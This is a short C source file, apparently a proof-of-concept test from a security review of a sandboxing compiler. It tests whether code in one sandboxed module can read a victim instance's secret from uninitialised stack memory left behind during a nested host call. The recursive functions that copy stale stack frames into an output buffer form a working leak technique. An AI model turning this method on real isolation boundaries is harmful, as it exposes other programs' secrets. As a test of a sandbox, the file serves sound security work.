/* cnestleak.c (review4): nestleak.s from C source only (sfi-cc -shared
 * -fsfi-import=host_nest). keep() fills a volatile local array in its
 * native frame (the victim instance, called by the host from inside the
 * attacker's import); callout() calls that import; peekbig() recurses 15
 * frames of 4 KiB and copies each frame's uninitialised volatile array
 * (constant indices: native frame slots) into out. nestleak_host.c
 * nested/reset counts the victim's secret among the 7680 words. */
#include <stdint.h>

#define R8(S, i) S(i) S(i + 1) S(i + 2) S(i + 3) S(i + 4) S(i + 5) S(i + 6) S(i + 7)
#define R64(S, i) R8(S, i) R8(S, i + 8) R8(S, i + 16) R8(S, i + 24) \
  R8(S, i + 32) R8(S, i + 40) R8(S, i + 48) R8(S, i + 56)
#define R512(S) R64(S, 0) R64(S, 64) R64(S, 128) R64(S, 192) R64(S, 256) \
  R64(S, 320) R64(S, 384) R64(S, 448)

extern void host_nest(void);

#define SET(i) a[i] = v;
__attribute__((noinline)) void keep(uint64_t v) {
  volatile uint64_t a[512];
  R512(SET)
}

__attribute__((noinline)) void callout(uint64_t *buf) {
  (void)buf;
  host_nest();
}

#define GET(i) p[i] = a[i];
__attribute__((noinline)) static void level(uint64_t *out, int k) {
  volatile uint64_t a[512];
  if (k + 1 < 15)
    level(out, k + 1);
  uint64_t *p = out + 512 * k;
  R512(GET)
}

__attribute__((noinline)) void peekbig(uint64_t *out) { level(out, 0); }
